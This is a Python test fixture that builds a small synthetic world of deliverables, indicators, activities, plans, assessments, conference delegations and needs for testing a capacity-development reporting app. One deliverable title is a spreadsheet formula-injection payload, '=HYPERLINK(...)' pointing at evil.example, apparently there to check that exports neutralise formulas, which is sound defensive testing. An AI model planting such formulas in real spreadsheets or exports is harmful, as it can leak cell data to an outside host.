"""A small, hand-built world for the report tests: the facts below, and the figures every
section must show for them, written out by hand (never computed with the selectors).

On top of capdev.test.make_world() (KE, UG, FR, DE, TH; office A covers KE and UG; the focal
point is the Kenyan ministry's):

Deliverables (unit ACTRAV), areas 1(a) and 2(a)
    D1 1(a) 2020-21 done — its title is a formula, "=HYPERLINK(…)"
    D2 1(a) 2020-21 in progress;  D3 2(a) 2020-21 delayed;  D4 2(a) 2022-23 done (other biennium)
Indicators
    S-NUM strategy, number, baseline 10, target 2020-21 = 20, measured 2020-21 = 18: 80 % of
          the way → at risk
    S-PCT strategy, percentage, targets 2020 30/100 and 2021 50/100, measured 2021 60/100 →
          reported for 2021, 120 % of the way → on track
    P-UG  a result of the Ugandan ministry's plan, target 2020 = 100, measured 10, baseline 0 →
          off track (the focal point does not see it)
    S-LATER target 2022 only → not in 2020-21
Activities (office A)
    A1 course, held 2020-03, KE, for KE-gov; RB 1000 USD; p1 KE-gov F, p2 KE-gov M, p3 UG-wrk F
    A2 workshop, held 2021-06, UG, for UG-wrk; pooled 500 USD; p3 UG-wrk F, p4 UG-wrk other
    A3 course, held 2022-01, KE, for KE-gov; RB 999 USD; p1                 (after the biennium)
    A4 workshop, planned 2021-05, KE, for KE-gov; RB 200 USD                (not held)
    A5 course, cancelled 2020-09, KE, for KE-gov; p2                        (not held)
Plans
    UG plan (UG-gov): actions 2000 USD RB (2021-02) and 300 EUR pooled (2020-07)
    KE plan (KE-gov): action 700 USD RB (2019-05, before the biennium)
Assessments (every item at the bottom of its scale = 0 %, at the top = 100 %)
    KE-gov 2019 0 %, 2021 100 %;  UG-wrk 2020 100 %;  KE-emp 2022 100 % (after the biennium)
Delegations
    ILC 109th session (2021): KE government F, M; KE workers F; UG employers M, M; FR government F
    ILC 111th session (2023): KE government F
Needs
    KE-gov: one open (high priority), one addressed; UG-gov: one open
"""

from __future__ import annotations

from datetime import date
from decimal import Decimal

from capdev.deliver.models import Activity, Participation, Person
from capdev.diagnose import services as diagnose
from capdev.diagnose.models import CapacityType, Level, Need, Theme
from capdev.diagnose.services import ScoreEntry
from capdev.diagnose.tests.workbooks import published_version
from capdev.monitor.models import Indicator, Measurement, Target
from capdev.parity.models import DelegationMember, Meeting
from capdev.plan.models import (
    Action,
    Deliverable,
    FundingSource,
    Plan,
    Result,
    StrategyOutcome,
)
from capdev.test import World

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def build(world: World) -> World:
    _deliverables(world)
    _indicators(world)
    _delivery(world)
    _assessments(world)
    _delegations(world)
    _needs(world)
    return world


def _deliverables(world: World) -> None:
    unit = world.offices["actrav"]
    areas = {
        code: StrategyOutcome.objects.create(code=code, title={"en": f"Area {code}"})
        for code in ("1(a)", "2(a)")
    }
    D = Deliverable.Status
    for key, area, biennium, status in (
        ("D1", "1(a)", "2020-21", D.DONE),
        ("D2", "1(a)", "2020-21", D.IN_PROGRESS),
        ("D3", "2(a)", "2020-21", D.DELAYED),
        ("D4", "2(a)", "2022-23", D.DONE),
    ):
        Deliverable.objects.create(
            outcome=areas[area],
            title={"en": FORMULA_TITLE if key == "D1" else f"Deliverable {key}"},
            phase=1,
            biennium=biennium,
            responsible_unit=unit,
            status=status,
            evidence=f"Evidence of {key}" if status == D.DONE else "",
        )


def _figure(model, indicator, period, **values) -> None:  # type: ignore[no-untyped-def]
    extra = {"source": "Test fixture"} if model is Measurement else {}
    model.objects.create(indicator=indicator, period=period, **values, **extra)


def _indicators(world: World) -> None:
    M = Indicator.Measure
    number = Indicator.objects.create(
        code="S-NUM", name="Strategy number", measure=M.NUMBER, unit="tools", baseline=10
    )
    _figure(Target, number, "2020-21", value=20)
    _figure(Measurement, number, "2020-21", value=18)
    share = Indicator.objects.create(code="S-PCT", name="Strategy share", measure=M.PERCENTAGE)
    _figure(Target, share, "2020", numerator=30, denominator=100)
    _figure(Target, share, "2021", numerator=50, denominator=100)
    _figure(Measurement, share, "2021", numerator=60, denominator=100)
    later = Indicator.objects.create(code="S-LATER", name="Later", measure=M.NUMBER)
    _figure(Target, later, "2022", value=5)

    regular = FundingSource.objects.create(
        name="Regular budget", kind=FundingSource.Kind.REGULAR_BUDGET
    )
    pooled = FundingSource.objects.create(name="Pooled fund", kind=FundingSource.Kind.POOLED)
    world.regular, world.pooled = regular, pooled  # type: ignore[attr-defined]
    uganda = Plan.objects.create(
        title="Ugandan ministry plan",
        country=world.countries["UG"],
        start=date(2020, 1, 1),
        end=date(2021, 12, 31),
    )
    uganda.organisations.set([world.organisations["UG-gov"]])
    result = Result.objects.create(
        plan=uganda, level=Level.ORGANISATIONAL, kind=Result.Kind.OUTCOME, statement="Better"
    )
    planned = Indicator.objects.create(
        code="P-UG", name="Plan indicator", measure=M.NUMBER, baseline=0
    )
    planned.results.set([result])
    _figure(Target, planned, "2020", value=100)
    _figure(Measurement, planned, "2020", value=10)
    kenya = Plan.objects.create(
        title="Kenyan ministry plan",
        country=world.countries["KE"],
        start=date(2019, 1, 1),
        end=date(2022, 12, 31),
    )
    kenya.organisations.set([world.organisations["KE-gov"]])
    office = world.offices["a"]
    for plan, budget, currency, source, start in (
        (uganda, "2000", "USD", regular, date(2021, 2, 1)),
        (uganda, "300", "EUR", pooled, date(2020, 7, 1)),
        (kenya, "700", "USD", regular, date(2019, 5, 1)),
    ):
        Action.objects.create(
            plan=plan,
            title=f"{plan.title} {currency}",
            responsible_office=office,
            budget=Decimal(budget),
            currency=currency,
            funding_source=source,
            start=start,
        )


def _person(world: World, key: str, sex: str, organisation: str) -> Person:
    org = world.organisations[organisation]
    return Person.objects.create(
        key=key, name=f"Person {key}", sex=sex, organisation=org, country=org.country
    )


def _delivery(world: World) -> None:
    p1 = _person(world, "p1", "female", "KE-gov")
    p2 = _person(world, "p2", "male", "KE-gov")
    p3 = _person(world, "p3", "female", "UG-wrk")
    p4 = _person(world, "p4", "other", "UG-wrk")
    K, S = Activity.Kind, Activity.Status
    regular, pooled = world.regular, world.pooled  # type: ignore[attr-defined]
    specs = (
        ("A1", K.COURSE, S.HELD, date(2020, 3, 1), "KE", "KE-gov", regular, "1000", [p1, p2, p3]),
        ("A2", K.WORKSHOP, S.HELD, date(2021, 6, 1), "UG", "UG-wrk", pooled, "500", [p3, p4]),
        ("A3", K.COURSE, S.HELD, date(2022, 1, 10), "KE", "KE-gov", regular, "999", [p1]),
        ("A4", K.WORKSHOP, S.PLANNED, date(2021, 5, 1), "KE", "KE-gov", regular, "200", []),
        ("A5", K.COURSE, S.CANCELLED, date(2020, 9, 1), "KE", "KE-gov", None, None, [p2]),
    )
    for title, kind, status, start, country, beneficiary, source, cost, people in specs:
        activity = Activity.objects.create(
            title=title,
            kind=kind,
            status=status,
            start=start,
            end=start,
            office=world.offices["a"],
            funding_source=source,
            cost=Decimal(cost) if cost else None,
            currency="USD" if cost else "",
        )
        activity.countries.set([world.countries[country]])
        activity.beneficiaries.set([world.organisations[beneficiary]])
        for person in people:
            Participation.objects.create(activity=activity, person=person)


def _assessments(world: World) -> None:
    version = published_version()
    items = list(version.items.all())
    for key, day, top in (
        ("KE-gov", date(2019, 5, 1), False),
        ("KE-gov", date(2021, 5, 1), True),
        ("UG-wrk", date(2020, 5, 1), True),
        ("KE-emp", date(2022, 3, 1), True),
    ):
        organisation = world.organisations[key]
        assessment = diagnose.assessment_create(
            user=None,
            data={
                "organisation": organisation,
                "version": version,
                "date": day,
                "mode": "self",
                "office": None,
            },
        )
        entries = [
            ScoreEntry(item.name, item.scale_max if top else item.scale_min)
            for item in items
            if item.applies_to(organisation.group)
        ]
        diagnose.scores_save(user=None, assessment=assessment, entries=entries)
        diagnose.assessment_submit(user=None, assessment=assessment)


def _delegations(world: World) -> None:
    kinds = Meeting.Kind
    ilc109 = Meeting.objects.create(
        kind=kinds.CONFERENCE,
        name="International Labour Conference, 109th Session",
        session=109,
        year=2021,
        start=date(2021, 6, 7),
    )
    ilc111 = Meeting.objects.create(
        kind=kinds.CONFERENCE,
        name="International Labour Conference, 111th Session",
        session=111,
        year=2023,
        start=date(2023, 6, 5),
    )
    for meeting, country, group, sex in (
        (ilc109, "KE", "government", "female"),
        (ilc109, "KE", "government", "male"),
        (ilc109, "KE", "workers", "female"),
        (ilc109, "UG", "employers", "male"),
        (ilc109, "UG", "employers", "male"),
        (ilc109, "FR", "government", "female"),
        (ilc111, "KE", "government", "female"),
    ):
        DelegationMember.objects.create(
            meeting=meeting,
            country=world.countries[country],
            group=group,
            role="delegate",
            sex=sex,
        )


def _needs(world: World) -> None:
    for organisation, title, status, priority in (
        ("KE-gov", "Inspection planning", Need.Status.OPEN, Need.Priority.HIGH),
        ("KE-gov", "Budget skills", Need.Status.ADDRESSED, Need.Priority.LOW),
        ("UG-gov", "Ugandan need", Need.Status.OPEN, Need.Priority.HIGH),
    ):
        Need.objects.create(
            organisation=world.organisations[organisation],
            title=title,
            level=Level.ORGANISATIONAL,
            type=CapacityType.FUNCTIONAL,
            theme=Theme.values[0],
            status=status,
            priority=priority,
        )
